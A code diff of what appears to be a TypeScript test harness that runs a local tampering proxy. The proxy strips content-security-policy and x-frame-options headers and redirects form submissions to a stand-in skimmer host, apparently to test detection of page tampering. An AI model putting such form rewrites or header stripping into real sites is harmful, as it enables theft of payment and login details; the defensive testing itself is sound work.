@@ -30,6 +30,7 @@ const verify = (...args: string[]): Promise<Ended> =>
 const GONE = `<script>self.was = 1; document.currentScript.remove()</script>`;
 function tamper(url: URL, html: string, headers: IncomingHttpHeaders): string {
   delete headers['content-security-policy'];
+  if (url.hostname === 'skimmer.test') delete headers['x-frame-options'];
   if (url.hostname === 'skimmer.test') return '<form action="http://skimmer.test/cards"><script>1</script>';
   if (url.pathname === '/verify')
     return html.replace('action="/verify', 'action="http://skimmer.test/verify');
@@ -53,8 +54,8 @@ async function openProxy(change: typeof tamper) {
     delete headers['content-length'];
     delete headers['content-encoding'];
     const text = await answer.text();
-    const isHtml = headers['content-type']?.startsWith('text/html');
-    response.writeHead(answer.status, headers).end(isHtml ? change(url, text, headers) : text);
+    const body = headers['content-type']?.startsWith('text/html') ? change(url, text, headers) : text;
+    response.writeHead(answer.status, headers).end(body);
   });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
   const address = server.address();
